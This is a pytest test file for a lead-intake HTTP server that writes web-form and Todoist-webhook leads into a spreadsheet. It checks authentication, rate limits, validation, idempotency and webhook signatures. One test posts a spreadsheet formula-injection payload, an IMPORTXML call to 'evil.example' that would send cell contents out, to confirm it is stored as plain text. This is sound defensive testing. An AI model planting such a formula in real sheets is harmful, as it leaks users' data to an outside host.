"""The intake over real HTTP (its standard-library server on a free port), writing into the
fake sheet: leads from web forms and Todoist webhooks, and everything the internet may try."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import re
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from typing import Any

import httpx
import pytest

from journey_sync.dates import date_to_serial
from journey_sync.intake import (
    MAX_BODY,
    Access,
    Intake,
    IntakeServer,
    RateLimiter,
    fingerprint,
)
from journey_sync.intake_store import IntakeStore, intake_path
from journey_sync.plan import parse_marker
from journey_sync.ports import SheetSnapshot
from journey_sync.sheet import read_sheet
from journey_sync.workflow import Workflow
from support.daemon import Service, Setup
from support.fakes import Formula
from support.world import World, lead_row

TODAY = date(2026, 3, 2)
TOKEN = "intake-token-0123456789"
FORM_KEY = "form-key-abcdef"
SECRET = "todoist-client-secret"


class Ticks:
    """A settable monotonic clock for the rate limiter."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


class Rig:
    """A world with a footer, the intake over it, and an HTTP client."""

    def __init__(
        self, world: World, tmp: Path, *, per_minute: float = 600, burst: int = 100
    ) -> None:
        self.world = world
        self.triggered: list[str] = []
        self.store = IntakeStore(intake_path(tmp / "state.db"))
        self.intake = Intake(
            self.store,
            [world.workflow],
            trigger=self.triggered.append,
            client_secret=SECRET,
            clock=world.clock,
        )
        self.ticks = Ticks()
        self.server = IntakeServer(
            self.intake,
            Access(token=TOKEN, form_keys=(FORM_KEY,), trusted_proxies=("127.0.0.1",)),
            "127.0.0.1",
            0,
            limiter=RateLimiter(per_minute, burst, clock=self.ticks),
            row_wait=0,
        )
        self.server.start()
        self.http = httpx.Client(base_url=self.server.url, timeout=10)

    def close(self) -> None:
        self.http.close()
        self.server.stop()
        self.store.close()

    def post_lead(
        self, data: dict[str, Any], *, token: str | None = TOKEN, **headers: str
    ) -> httpx.Response:
        if token is not None:
            headers["Authorization"] = f"Bearer {token}"
        return self.http.post("/leads", json=data, headers=headers)

    def webhook(
        self, payload: dict[str, Any], *, secret: str = SECRET, delivery: str = "d-1"
    ) -> httpx.Response:
        body = json.dumps(payload).encode()
        signature = base64.b64encode(hmac.new(secret.encode(), body, hashlib.sha256).digest())
        return self.http.post(
            "/todoist/webhook",
            content=body,
            headers={
                "Content-Type": "application/json",
                "X-Todoist-Hmac-SHA256": signature.decode(),
                "X-Todoist-Delivery-ID": delivery,
            },
        )

    def write(self) -> int:
        """What the daemon does before a cycle."""
        return self.intake.write_pending(self.world.workflow, self.world.sheet)

    def rows(self) -> tuple[tuple[object, ...], ...]:
        return self.world.sheet.read().rows


@pytest.fixture
def rig(make_world: Callable[..., World], tmp_path: Path) -> Iterator[Rig]:
    world = make_world(
        [lead_row("Ada", date(2026, 2, 20)), lead_row("Ben", date(2026, 2, 25))], TODAY
    )
    world.cycle()  # ids, tasks and the footer under the two leads
    made = Rig(world, tmp_path)
    yield made
    made.close()


def item_event(project_id: str, event: str = "item:completed") -> dict[str, Any]:
    return {
        "event_name": event,
        "user_id": "2671355",
        "event_data": {"id": "6X7rM8997g3RQmvh", "project_id": project_id, "checked": True},
        "initiator": {"id": "2671355", "full_name": "Alex"},
        "triggered_at": "2026-03-02T12:00:00.000000Z",
        "version": "10",
    }


# --------------------------------------------------------------------- leads


def test_a_posted_lead_is_a_row_above_the_footer_and_gets_its_tasks_in_one_cycle(
    rig: Rig,
) -> None:
    world = rig.world
    footer_before = read_sheet(world.workflow, world.sheet.read()).footer
    assert footer_before, "the rig starts with a footer under the leads"

    answer = rig.post_lead({"name": "Cleo Park", "source": "Website", "heard_about": "Google"})

    assert answer.status_code == 201, answer.text
    lead_id = answer.json()["lead_id"]
    assert answer.json()["written"] is False and rig.triggered == [world.workflow.name]
    assert rig.write() == 1
    row = world.sheet.row_of("Cleo Park")
    assert row == 4  # right under Ben, where the footer's first row was
    assert world.sheet.get(row, "Lead ID") == lead_id
    assert world.sheet.get(row, "Date of lead") == date_to_serial(TODAY)
    assert (row, world.sheet.header_column("Date of lead")) in world.sheet.date_cells
    assert world.sheet.get(row, "Source of lead") == "Website"
    assert world.sheet.get(row, "How did you hear about us?") == "Google"
    assert rig.store.get(lead_id) is not None and rig.store.get(lead_id).row == row  # type: ignore[union-attr]

    report = world.cycle()

    assert report.new_leads == 0  # its id was written with it: not a new id, not a held row
    markers = [parse_marker(t.description) for t in world.todoist.all_tasks()]
    steps = {m[1] for m in markers if m is not None and m[0] == lead_id}
    assert steps == {step.key for step in world.workflow.steps}  # dated today: every step
    model = read_sheet(world.workflow, world.sheet.read())
    assert [lead.name for lead in model.leads] == ["Ada", "Ben", "Cleo Park"]
    assert min(f.row for f in model.footer) > row  # the footer moved below the new lead


def test_a_form_post_with_its_form_key_adds_a_lead(rig: Rig) -> None:
    answer = rig.http.post(
        f"/leads/{rig.world.workflow.name}?key={FORM_KEY}",
        data={"name": "Dee", "source": "Flyer", "submit": "Send"},
    )
    assert answer.status_code == 201, answer.text
    rig.write()
    assert rig.world.sheet.get(rig.world.sheet.row_of("Dee"), "Source of lead") == "Flyer"


@pytest.mark.parametrize(
    "how",
    ["no token", "wrong token", "wrong form key", "token in the wrong scheme"],
)
def test_a_wrong_or_missing_token_is_401_and_nothing_is_written(rig: Rig, how: str) -> None:
    before = rig.rows()
    if how == "no token":
        answer = rig.post_lead({"name": "Eve"}, token=None)
    elif how == "wrong token":
        answer = rig.post_lead({"name": "Eve"}, token=TOKEN[:-1] + "X")
    elif how == "wrong form key":
        answer = rig.http.post("/leads?key=form-key-abcdeX", data={"name": "Eve"})
    else:
        answer = rig.http.post(
            "/leads", json={"name": "Eve"}, headers={"Authorization": f"Basic {TOKEN}"}
        )
    assert answer.status_code == 401
    assert rig.store.pending(rig.world.workflow.name) == []
    assert rig.write() == 0
    assert rig.rows() == before and rig.triggered == []


def test_an_oversized_body_is_refused_unread(rig: Rig) -> None:
    answer = rig.post_lead({"name": "Fay", "source": "x" * MAX_BODY})
    assert answer.status_code == 413
    assert rig.store.pending(rig.world.workflow.name) == []


def test_a_flood_from_one_address_gets_429_with_retry_after(
    make_world: Callable[..., World], tmp_path: Path
) -> None:
    world = make_world([lead_row("Ada", date(2026, 2, 20))], TODAY)
    rig = Rig(world, tmp_path, per_minute=6, burst=3)
    try:
        codes = [
            rig.post_lead({"name": f"Bot {i}"}, **{"X-Forwarded-For": "203.0.113.9"}).status_code
            for i in range(5)
        ]
        assert codes == [201, 201, 201, 429, 429]
        refused = rig.post_lead({"name": "Bot 9"}, **{"X-Forwarded-For": "203.0.113.9"})
        assert refused.status_code == 429 and int(refused.headers["Retry-After"]) >= 1
        # Another client behind the same (trusted) proxy is counted on its own.
        other = rig.post_lead({"name": "Gil"}, **{"X-Forwarded-For": "198.51.100.7"})
        assert other.status_code == 201
        # Wrong tokens count too: guessing is as limited as posting.
        rig.ticks.now += 10  # one request's worth at 6 a minute
        assert (
            rig.post_lead({"name": "Bot 10"}, **{"X-Forwarded-For": "203.0.113.9"}).status_code
            == 201
        )
        assert len(rig.store.pending(world.workflow.name)) == 5
    finally:
        rig.close()


def test_a_field_holding_a_formula_is_written_as_text(rig: Rig) -> None:
    formula = '=IMPORTXML("https://evil.example/?"&A2,"//a")'
    answer = rig.post_lead({"name": formula, "source": "+1 555 0100"})
    assert answer.status_code == 201
    rig.write()
    row = rig.world.sheet.row_of(formula)
    cell = rig.world.sheet.cells[(row, rig.world.sheet.header_column("Client name"))]
    assert cell == formula and not isinstance(cell, Formula)
    assert rig.world.sheet.get(row, "Source of lead") == "+1 555 0100"


def test_a_ten_thousand_character_name_is_422_and_nothing_is_written(rig: Rig) -> None:
    answer = rig.post_lead({"name": "A" * 10_000, "source": "Web"})
    assert answer.status_code == 422
    assert "10000 characters" in answer.json()["problems"]["name"]
    assert rig.store.pending(rig.world.workflow.name) == [] and rig.triggered == []


def test_each_field_s_problem_is_named(rig: Rig) -> None:
    answer = rig.post_lead(
        {"name": " ", "lead_date": "03/02/2026", "colour": "red", "source": ["a"]}
    )
    assert answer.status_code == 422
    problems = answer.json()["problems"]
    assert set(problems) == {"name", "lead_date", "colour", "source"}
    assert "required" in problems["name"] and "YYYY-MM-DD" in problems["lead_date"]
    assert "unknown field" in problems["colour"]
    future = rig.post_lead({"name": "Hal", "lead_date": "2026-04-01"})
    assert future.status_code == 422 and "future" in future.json()["problems"]["lead_date"]
    assert (
        rig.http.post(
            "/leads",
            content=b"[1]",
            headers={"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"},
        ).status_code
        == 422
    )
    assert (
        rig.http.post(
            "/leads",
            content=b"name=x",
            headers={"Authorization": f"Bearer {TOKEN}", "Content-Type": "text/plain"},
        ).status_code
        == 415
    )


def test_a_given_lead_date_is_kept(rig: Rig) -> None:
    assert rig.post_lead({"name": "Ivy", "lead_date": "2026-02-27"}).status_code == 201
    rig.write()
    assert rig.world.sheet.get(rig.world.sheet.row_of("Ivy"), "Date of lead") == date_to_serial(
        date(2026, 2, 27)
    )


def test_a_form_posted_twice_adds_one_lead(rig: Rig) -> None:
    first = rig.post_lead({"name": "Jo", "source": "Web"}, **{"Idempotency-Key": "k-1"})
    again = rig.post_lead({"name": "Jo", "source": "Web"}, **{"Idempotency-Key": "k-1"})
    assert first.status_code == 201 and again.status_code == 200
    assert again.json()["duplicate"] is True
    assert again.json()["lead_id"] == first.json()["lead_id"]
    # Without a key: the same name, contact and source within 24 h is the same lead...
    same = rig.post_lead({"name": " jo ", "source": "WEB"})
    assert same.status_code == 200 and same.json()["lead_id"] == first.json()["lead_id"]
    # ...even after it was written; a different source is a different lead.
    rig.write()
    assert rig.post_lead({"name": "Jo", "source": "Web"}).status_code == 200
    assert rig.post_lead({"name": "Jo", "source": "Flyer"}).status_code == 201
    rig.write()
    names = [lead.name for lead in read_sheet(rig.world.workflow, rig.world.sheet.read()).leads]
    assert names.count("Jo") == 2  # the Web one once, the Flyer one once


def test_the_same_fields_make_the_same_fingerprint_whatever_the_spacing() -> None:
    assert fingerprint({"name": "Jo  Doe", "source": "Web"}) == fingerprint(
        {"name": "jo doe", "source": "WEB "}
    )
    assert fingerprint({"name": "Jo"}) != fingerprint({"name": "Jo", "source": "Web"})


class Down:
    """A sheet that cannot be read (Google down, sharing revoked) until it comes back."""

    def __init__(self, sheet: Any) -> None:
        self.sheet = sheet
        self.down = True

    def read(self) -> SheetSnapshot:
        if self.down:
            raise ConnectionError("sheets unavailable")
        result: SheetSnapshot = self.sheet.read()
        return result

    def apply(self, writes: Any) -> None:
        if self.down:
            raise ConnectionError("sheets unavailable")
        self.sheet.apply(writes)

    def formula_cells(self, rows: Any, last_column: int) -> frozenset[tuple[int, int]]:
        result: frozenset[tuple[int, int]] = self.sheet.formula_cells(rows, last_column)
        return result


def test_the_sheet_unavailable_keeps_the_lead_and_a_later_cycle_writes_it(
    rig: Rig, tmp_path: Path
) -> None:
    world = rig.world
    down = Down(world.sheet)
    answer = rig.post_lead({"name": "Kim", "source": "Web"})
    assert answer.status_code == 201 and answer.json()["row"] is None
    lead_id = answer.json()["lead_id"]
    assert rig.intake.write_pending(world.workflow, down) == 0  # type: ignore[arg-type]
    # The process restarts meanwhile: the lead is in the intake file, not in memory.
    rig.store.close()
    store = IntakeStore(intake_path(tmp_path / "state.db"))
    rig.intake.store = rig.store = store
    assert [lead.lead_id for lead in store.pending(world.workflow.name)] == [lead_id]
    down.down = False
    assert rig.intake.write_pending(world.workflow, down) == 1  # type: ignore[arg-type]
    assert world.sheet.get(world.sheet.row_of("Kim"), "Lead ID") == lead_id
    assert store.pending(world.workflow.name) == []


def test_a_lead_written_before_a_crash_is_not_written_again(
    rig: Rig, monkeypatch: pytest.MonkeyPatch
) -> None:
    world = rig.world
    lead_id = rig.post_lead({"name": "Lou"}).json()["lead_id"]

    def crash(*args: object) -> None:
        raise RuntimeError("killed between the write and its bookkeeping")

    monkeypatch.setattr(rig.store, "written", crash)
    with pytest.raises(RuntimeError):
        rig.write()
    monkeypatch.undo()
    assert rig.write() == 1  # found in the sheet by its id: bookkept, not written again
    names = [lead.name for lead in read_sheet(world.workflow, world.sheet.read()).leads]
    assert names.count("Lou") == 1
    assert rig.store.get(lead_id).row == world.sheet.row_of("Lou")  # type: ignore[union-attr]


class EditedMeanwhile:
    """The sheet, and a person's edit landing between the intake's read and its write."""

    def __init__(self, sheet: Any, edit: Callable[[], None]) -> None:
        self.sheet, self.edit = sheet, edit

    def read(self) -> SheetSnapshot:
        snapshot: SheetSnapshot = self.sheet.read()
        self.edit()
        return snapshot

    def apply(self, writes: Any) -> None:
        self.sheet.apply(writes)


@pytest.mark.parametrize("edit", ["row-inserted-above", "client-typed-under-the-last"])
def test_a_person_s_edit_during_the_intake_s_write_loses_nobody(rig: Rig, edit: str) -> None:
    world = rig.world
    ben = world.sheet.row_of("Ben")

    def person() -> None:
        if edit == "row-inserted-above":
            world.sheet.insert_rows(ben, 1)  # Ben moves down, into the row picked
        else:
            world.sheet.set(ben + 1, "Client name", "Paula")
            world.sheet.set(ben + 1, "Date of lead", date_to_serial(TODAY))

    rig.post_lead({"name": "Fiona", "source": "Web"})
    assert rig.intake.write_pending(world.workflow, EditedMeanwhile(world.sheet, person)) == 1  # type: ignore[arg-type]
    names = [lead.name for lead in read_sheet(world.workflow, world.sheet.read()).leads]
    expected = ["Ada", "Ben", "Fiona"] if edit == "row-inserted-above" else ["Ada", "Ben", "Paula"]
    assert sorted(names) == sorted({*expected, "Fiona"})
    assert world.sheet.get(world.sheet.row_of("Ben"), "Source of lead") == "Instagram"
    report = world.cycle()
    assert report.leads == len(set(names)) and not report.warnings


def test_the_answer_waits_for_the_row_when_the_daemon_writes_it_at_once(
    make_world: Callable[..., World], tmp_path: Path
) -> None:
    world = make_world([lead_row("Ada", date(2026, 2, 20))], TODAY)
    rig = Rig(world, tmp_path)
    rig.server.stop()
    # As the daemon does: the trigger leads to the write on another thread.
    rig.intake.trigger = lambda name: rig.write()  # type: ignore[assignment]
    rig.server = IntakeServer(rig.intake, Access(token=TOKEN), "127.0.0.1", 0, row_wait=5)
    rig.server.start()
    rig.http = httpx.Client(base_url=rig.server.url, timeout=10)
    try:
        answer = rig.post_lead({"name": "Max"})
        assert answer.status_code == 201
        assert answer.json()["row"] == world.sheet.row_of("Max") and answer.json()["written"]
    finally:
        rig.close()


# --------------------------------------------------------------------- webhooks


def test_a_signed_item_event_asks_for_a_cycle(rig: Rig) -> None:
    answer = rig.webhook(item_event("any"))
    assert answer.status_code == 200
    assert rig.triggered == [rig.world.workflow.name]


@pytest.mark.parametrize("how", ["missing", "wrong secret", "body changed"])
def test_a_bad_or_missing_signature_is_401_and_triggers_nothing(rig: Rig, how: str) -> None:
    if how == "missing":
        answer = rig.http.post("/todoist/webhook", json=item_event("any"))
    elif how == "wrong secret":
        answer = rig.webhook(item_event("any"), secret="not-the-secret")
    else:
        body = json.dumps(item_event("any")).encode()
        signature = base64.b64encode(hmac.new(SECRET.encode(), body, hashlib.sha256).digest())
        answer = rig.http.post(
            "/todoist/webhook",
            content=body.replace(b"item:completed", b"item:updated  "),
            headers={"X-Todoist-Hmac-SHA256": signature.decode()},
        )
    assert answer.status_code == 401
    assert rig.triggered == []


def test_a_repeated_delivery_is_recognised(rig: Rig) -> None:
    assert rig.webhook(item_event("any"), delivery="d-7").status_code == 200
    again = rig.webhook(item_event("any"), delivery="d-7")
    assert again.status_code == 200 and "repeated" in again.json()["result"]
    assert rig.triggered == [rig.world.workflow.name]
    assert rig.webhook(item_event("any"), delivery="d-8").status_code == 200
    assert len(rig.triggered) == 2


def test_only_item_events_of_a_workflow_s_project_ask_for_a_cycle(rig: Rig) -> None:
    rig.intake.learn(rig.world.engine)
    project = rig.intake.project_ids[rig.world.workflow.name]
    assert rig.webhook(item_event("some-other-project"), delivery="a").status_code == 200
    assert (
        rig.webhook({"event_name": "note:added", "event_data": {}}, delivery="b").status_code == 200
    )
    assert rig.triggered == []
    for n, event in enumerate(
        ["item:completed", "item:uncompleted", "item:updated", "item:deleted"]
    ):
        assert rig.webhook(item_event(project, event), delivery=f"c{n}").status_code == 200
    assert rig.triggered == [rig.world.workflow.name] * 4


def test_a_form_key_does_not_open_the_webhook(rig: Rig) -> None:
    answer = rig.http.post(f"/todoist/webhook?key={FORM_KEY}", json=item_event("any"))
    assert answer.status_code == 401 and rig.triggered == []


def test_workflow_by_path(rig: Rig, workflow: Workflow) -> None:
    assert (
        rig.http.post(
            "/leads/no-such-workflow",
            json={"name": "Ned"},
            headers={"Authorization": f"Bearer {TOKEN}"},
        ).status_code
        == 404
    )
    assert (
        rig.http.post(
            f"/leads/{workflow.name}",
            json={"name": "Ned"},
            headers={"Authorization": f"Bearer {TOKEN}"},
        ).status_code
        == 201
    )


def test_a_workflow_is_named_in_the_path_by_its_name_or_its_slug(rig: Rig) -> None:
    auth = {"Authorization": f"Bearer {TOKEN}"}
    assert (
        rig.http.post("/leads/studio-client-journey", json={"name": "Oz"}, headers=auth).status_code
        == 201
    )


# --------------------------------------------------------------------- the schedule


class _Engine:
    def __init__(self, name: str) -> None:
        self.name = name


def test_requests_for_a_cycle_made_together_become_one_cycle() -> None:
    from journey_sync.lifecycle import StopFlag
    from journey_sync.schedule import Daemon

    daemon = Daemon([_Engine("a"), _Engine("b")], runner=None, stop=StopFlag(), interval=60)  # type: ignore[list-item,arg-type]
    for _ in range(5):
        daemon.request_cycle("a")
    daemon.request_cycle("b")
    daemon.request_cycle("nope")  # not a workflow: nothing
    turns = [daemon._turns.get(timeout=5), daemon._turns.get(timeout=5)]
    assert sorted(t.workflow for t in turns) == ["a", "b"] and all(t.urgent for t in turns)
    assert daemon._turns.empty()  # five requests for "a", one turn (its timer fired once)
    # Once its turn began, a new request gets a new turn (an event during the cycle).
    daemon._urgent.discard("a")
    daemon.request_cycle("a")
    assert daemon._turns.get(timeout=5).workflow == "a"


# --------------------------------------------------------------------- add-lead (a shell)


def _sandbox_model(setup: Setup) -> Any:
    """The sandbox sheet as journey-sync reads it."""
    from journey_sync.settings import load_settings
    from journey_sync.wiring import sheet_gateway
    from journey_sync.workflow import load_workflows

    settings = load_settings(setup.env)
    (workflow,) = load_workflows(settings.workflows).workflows
    return workflow, read_sheet(workflow, sheet_gateway(workflow, settings).read())


def test_add_lead_writes_the_row_under_the_last_lead_above_the_footer_raw(setup: Setup) -> None:
    assert setup.run("run", "--once").returncode == 0  # ids, tasks and the footer
    _, before = _sandbox_model(setup)
    assert before.footer

    done = setup.run(
        "add-lead", "--name", "Cleo Park", "--source", '=HYPERLINK("x")', "--heard-about", "Ads"
    )

    assert done.returncode == 0, done.stderr
    _, after = _sandbox_model(setup)
    (cleo,) = [lead for lead in after.leads if lead.name == "Cleo Park"]
    assert cleo.row == before.last_data_row + 1
    assert cleo.lead_id and f"lead {cleo.lead_id} added in row {cleo.row}" in done.stdout
    assert cleo.source == '=HYPERLINK("x")'  # RAW: text, not a formula
    assert min(f.row for f in after.footer) > cleo.row
    store = IntakeStore(intake_path(Path(setup.env["JOURNEY_SYNC_STATE"])))
    try:
        assert store.get(cleo.lead_id).row == cleo.row  # type: ignore[union-attr]
    finally:
        store.close()

    again = setup.run("add-lead", "--name", "cleo  park", "--source", '=HYPERLINK("x")')

    assert again.returncode == 0 and "already added" in again.stdout
    _, last = _sandbox_model(setup)
    assert [lead.name for lead in last.leads].count("Cleo Park") == 1


def test_add_lead_with_the_same_idempotency_key_adds_once(setup: Setup) -> None:
    first = setup.run("add-lead", "--name", "Dee", "--idempotency-key", "k-1")
    second = setup.run("add-lead", "--name", "Dee Other", "--idempotency-key", "k-1")
    assert first.returncode == second.returncode == 0
    assert "already added" in second.stdout
    _, model = _sandbox_model(setup)
    assert [lead.name for lead in model.leads if lead.name.startswith("Dee")] == ["Dee"]


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--name", "Eve", "--date", "02/03/2026"], "lead_date: must be a date as YYYY-MM-DD"),
        (["--name", "Eve", "--field", "shoe_size=42"], "shoe_size: unknown field"),
        (["--name", "Eve", "--field", "nonsense"], "write ROLE=TEXT"),
        (["--name", "x" * 10_000], "name: is 10000 characters long"),
        (["--name", "Eve", "--workflow", "Nope"], "no workflow is named 'Nope'"),
    ],
)
def test_add_lead_refuses_bad_input_with_exit_2_and_writes_nothing(
    setup: Setup, args: list[str], says: str
) -> None:
    _, before = _sandbox_model(setup)
    done = setup.run("add-lead", *args)
    assert done.returncode == 2
    assert says in done.stderr
    _, after = _sandbox_model(setup)
    assert len(after.leads) == len(before.leads)


def test_add_lead_keeps_the_lead_when_the_sheet_is_unavailable_and_a_cycle_writes_it(
    setup: Setup,
) -> None:
    setup.sandbox.fail_next("sheets", 403)  # the sheet unshared, for this one read

    done = setup.run("add-lead", "--name", "Fay", "--source", "Walk-in")

    assert done.returncode == 0, done.stderr
    assert "not in the sheet yet" in done.stderr and "journey-sync run" in done.stderr
    _, model = _sandbox_model(setup)
    assert "Fay" not in [lead.name for lead in model.leads]
    store = IntakeStore(intake_path(Path(setup.env["JOURNEY_SYNC_STATE"])))
    try:
        (kept,) = store.pending("Studio client journey")
    finally:
        store.close()

    assert setup.run("run", "--once").returncode == 0  # the daemon finds the intake file

    _, model = _sandbox_model(setup)
    (fay,) = [lead for lead in model.leads if lead.name == "Fay"]
    assert fay.lead_id == kept.lead_id


def test_a_running_daemon_finds_a_lead_add_lead_kept_after_it_started(setup: Setup) -> None:
    """The daemon started with no intake file and its intake port off; add-lead cannot
    reach the sheet, keeps the lead in the intake file; the daemon's next cycle writes it."""
    assert not intake_path(Path(setup.env["JOURNEY_SYNC_STATE"])).exists()
    service = Service(setup)
    try:
        service.wait_for_log("cycle done", count=2)
        # A port no test can listen on (below 1024): a free port picked here could be
        # taken by another test's sandbox meanwhile, which add-lead would then write to.
        dead = "http://127.0.0.1:9"
        # One attempt at the dead address (retries would only wait); a generous wait for
        # the daemon, which returns as soon as Gus is in (the suite runs beside others).
        done = setup.run(
            "add-lead",
            "--name",
            "Gus",
            "--source",
            "Walk-in",
            JOURNEY_SYNC_SHEETS_API_URL=dead,
            JOURNEY_SYNC_RETRY_ATTEMPTS="1",
        )
        assert done.returncode == 0, done.stderr
        # add-lead cannot reach the sheet; it says the lead is kept, unless the daemon,
        # which looks at the intake file every second, wrote it already (then add-lead's
        # own attempt finds nothing pending and reports the daemon's row).
        assert "not written yet" in done.stderr or "added in row" in done.stdout, done
        service.wait_for(
            lambda: "Gus" in [lead.name for lead in _sandbox_model(setup)[1].leads],
            timeout=60,
            what="Gus written by the running daemon",
        )
        (gus,) = [lead for lead in _sandbox_model(setup)[1].leads if lead.name == "Gus"]
        assert gus.lead_id
    finally:
        service.close()


def test_a_lead_from_add_lead_gets_its_tasks_at_once_from_a_running_daemon(setup: Setup) -> None:
    """The daemon runs every hour; a lead kept by ``add-lead`` in a shell asks for its
    cycle, as ``POST /leads`` does: its tasks come within seconds, in one more cycle."""
    service = Service(setup, JOURNEY_SYNC_INTERVAL="3600")
    try:
        service.wait_for_log("cycle done", count=1)
        done = setup.run("add-lead", "--name", "Hal Quick", "--source", "Phone")
        assert done.returncode == 0, done.stderr
        (hal,) = [x for x in _sandbox_model(setup)[1].leads if x.name == "Hal Quick"]
        assert hal.lead_id

        def hal_s_tasks() -> list[str]:
            project = setup.sandbox.todoist.project_named("Client journeys")
            assert project is not None
            return [
                str(task["description"])
                for task in setup.sandbox.todoist.tasks(str(project["id"]))
                if (parse_marker(str(task.get("description") or "")) or ("",))[0] == hal.lead_id
            ]

        service.wait_for(lambda: bool(hal_s_tasks()), timeout=15, what="Hal's tasks")
        service.wait_for_log("cycle done", count=2)
        # That the later looks at the intake file ask for nothing more is shown without
        # waiting, by moving the look's clock: tests/daemon/test_daemon_unit.py
        # ::test_the_look_at_the_intake_file_asks_once_per_lead_add_lead_kept.
        assert len(re.findall("cycle done", service.output)) == 2, service.output
    finally:
        service.close()
